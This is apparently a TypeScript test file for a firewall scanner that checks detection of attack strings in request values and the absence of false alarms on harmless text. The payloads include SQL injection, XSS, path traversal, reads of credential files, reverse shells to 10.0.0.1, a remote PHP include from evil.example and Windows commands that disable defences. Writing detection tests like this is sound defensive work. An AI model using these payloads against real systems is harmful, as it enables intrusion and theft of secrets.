import { describe, expect, it } from 'vitest'
import { threats } from './kinds.ts'
import { scanValue } from './scan.ts'

/** A text as the firewall sees it: one code unit for each byte of UTF-8. */
const bytes = (text: string) => Buffer.from(text, 'utf8').toString('latin1')

const kinds = (text: string) => {
  const found = scanValue(bytes(text), 'query', -1)
  return Object.entries(threats).flatMap(([name, bit]) => ((found & bit) === 0 ? [] : [name]))
}

describe('what is found in a value', () => {
  it.each<[keyof typeof threats, string]>([
    // Blanks that databases take for one.
    ['sqli', `'\u00a0or\u00a01\u00a0in\u00a0(1)--`],
    ['sqli', `1\u00a0union\u00a0all\u00a0select\u00a0name`],
    // Comments between the words of a statement.
    ['sqli', `';--x\nTRUNCATE--x\nTABLE--x\nlogs;--`],
    ['sqli', `1#x\nwaitfor#x\ndelay#x\n'0:0:15' --`],
    ['sqli', `'; CREATE OR REPLACE FUNCTION f(cstring) RETURNS int AS 'x','y' LANGUAGE 'C';--`],
    ['sqli', `1';IF(9193=9691) SELECT 2633 ELSE DROP FUNCTION a--`],
    ['sqli', `1");IIF(9215=8408,1,1/0)%16`],
    ['sqli', `1';BEGIN USER_LOCK.SLEEP(5); END--`],
    ['sqli', `(9205=4625)*6587`],
    ['sqli', `'-0||'`],
    ['sqli', `1' -- wXyZ`],
    ['sqli', `-1" || 2+159-159-1=0+0+0+1 --`],
    ['sqli', `1 OR jsonb_exists('{"a":1}'::jsonb,'a')`],
    ['sqli', `' or data @> '{"a":"b"}' --`],
    ['sqli', `' UNION VALUES ROW(1,2)--`],
    ['sqli', `'; SET ROLE postgres;--`],
    ['xss', `self[atob('YWxlcnQ=')](1)`],
    ['xss', `<portal src="https://evil.example/">`],
    ['sqli', `' or 1 --'`],
    ['sqli', `' RLIKE '.*`],
    ['sqli', `1; use master--`],
    ['sqli', `'; CREATE EXTENSION dblink;--`],
    ['sqli', `' or string-length(//user[1]/password)>5 or '`],
    ['xss', `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`],
    ['xss', `[a](j a v a s c r i p t:prompt(document.cookie))`],
    // Climbing, written in other ways.
    ['traversal', `%uff0e%uff0e%u2215%uff0e%uff0e%u2215boot.ini`],
    ['traversal', `..%c0%2f..%c0%2fboot.ini`],
    ['traversal', `%c0%2e%c0%2e/%c0%2e%c0%2e/boot.ini`],
    ['traversal', `..0x2f..0x2fboot.ini`],
    ['traversal', `0x2e0x2e/0x2e0x2e/boot.ini`],
    ['traversal', `./\\/././\\/./boot.ini`],
    ['traversal', `./.././.././../file`],
    ['traversal', `.//..//.//..//file`],
    // Paths with blanks about them, doubled slashes, and the other slash.
    ['systemFile', ` /etc/issue `],
    ['systemFile', `//home//ubuntu//.ssh//authorized_keys`],
    ['systemFile', `/./proc/./self/./environ`],
    ['systemFile', `\\proc\\self\\environ`],
    ['systemFile', `\\etc\\apache2\\apache2.conf`],
    ['systemFile', `/home/ec2-user/.aws/config`],
    ['systemFile', `C:\\Users\\Administrator\\.ssh\\id_rsa`],
    ['systemFile', `/opt/app/.env`],
    ['systemFile', `etc/passwd`],
    ['systemFile', `/WEB-INF/applicationContext.xml`],
    ['systemFile', `/dev/fd/0`],
    ['systemFile', `c:/windows/panther/unattend.xml`],
    ['unixShell', `| ping -i 30 127.0.0.1 |`],
    ['unixShell', 'cat ${HOME:0:1}etc${HOME:0:1}passwd'],
    ['unixShell', `a;id\\n`],
    ['unixShell', `ls -l /`],
    ['windowsShell', `netsh firewall set opmode disable`],
    ['php', '{${sleep(3)}}'],
    ['php', `:phpversion();`],
    ['php', `index/think\\app/invokefunction`],
    ['php', `mail[#post_render][]=exec`],
    ['noSql', `', $or: [ {}, { 'order':'order`],
    ['remoteFile', `gopher://localhost:25/_HELO%20localhost`],
    ['systemFile', `/home/user/.bashrc`],
    ['systemFile', `/etc/kubernetes/admin.conf\r\n`],
    ['java', `  rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ`],
    ['xss', `document.cookie`],
    ['xss', `window.location='http://evil.example'`],
    ['sqli', `1; RECONFIGURE WITH OVERRIDE; --`],
    ['sqli', `1 OR name GLOB '*'`],
    ['sqli', `1 OR typeof(1)='integer'`],
    ['sqli', `UPDATE users SET role='admin' WHERE id=1`],
    ['sqli', `INSERT INTO users VALUES ('a','b')`],
    ['unixShell', `bash<<<$(base64 -d<<<Y2F0IC9ldGM=)`],
    ['windowsShell', `who^ami`],
    ['windowsShell', `bcdedit /set {default} recoveryenabled No`],
    ['windowsShell', `wevtutil cl System`],
    ['powerShell', `p^o^w^e^r^shell -c whoami`],
    ['powerShell', `Add-MpPreference -ExclusionPath C:\\`],
    ['php', `assert(1)&&system('id')`],
    ['php', `include 'http://evil.example/x.php'`],
    ['java', `class['classLoader']['resources']`],
    ['template', `{{ '/etc/hosts'|file_get_contents }}`],
    ['template', '${{<%[%\'"}}%\\'],
    ['noSql', `1;return true`],
    ['unixShell', `ruby -rsocket -e 'exit if fork;c=TCPSocket.new("10.0.0.1","4242")'`],
    ['unixShell', `socat tcp-connect:10.0.0.1:4444 exec:/bin/sh,pty,stderr`],
    ['unixShell', `--output=/var/www/html/x.php`],
    ['windowsShell', `schtasks /create /tn x /tr calc.exe /sc once`],
    ['php', `";exit(md5('a1b2'));//`],
    ['headerSplit', `\u560a\u560dSet-Cookie:x=1`],
  ])('finds %s in %s', (kind, text) => {
    expect(kinds(text)).toContain(kind)
  })

  it.each([
    `<h1>Title</h1><p class="lead">Intro &amp; more</p>`,
    `exec@company.com`,
    `benchmark (2024) results`,
    `2 or more = discount`,
    `cat /proc/cpuinfo shows the CPU`,
    `6' -- 8' boards`,
    `24" -- NEW`,
    `12" vinyl -- like new`,
    `UPDATE settings SET value = 'dark' WHERE name = 'theme'`,
    "**Note**: don't `rm` anything!",
    `#!/bin/bash\nset -e\nnpm ci\nnpm test`,
    // Lines of programs.
    `return function () { return value; };`,
    `const parts = line.split('||').map((part) => part.trim())`,
    `const end = argv.indexOf("--");`,
    `if (type >= 4 && type <= 7) total += 1`,
    `if (file.startsWith("file://")) continue`,
    `import { warn } from '../config/log.js'`,
    `const value = process.env[key] ?? 'none'`,
    `class Node { constructor(name, parent) { this.name = name } }`,
    `this["content-type"] = value`,
    `export * from './index.js'\nexport { a } from './a.js'`,
    `return \`\${Math.floor(Math.random() * 10)} of 10\``,
    `var root = self || Function('return this')();`,
    `"use strict";return this`,
    `(!(code >= 97 && code <= 122))`,
    `self.__total = self.__count + 1`,
    `!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!`,
    // Files that are spoken of.
    `Credentials are read from ~/.aws/credentials unless a profile is named`,
    `Put the machine into your .netrc file`,
  ])('finds nothing in %s', (text) => {
    expect(kinds(text)).toEqual([])
  })
})
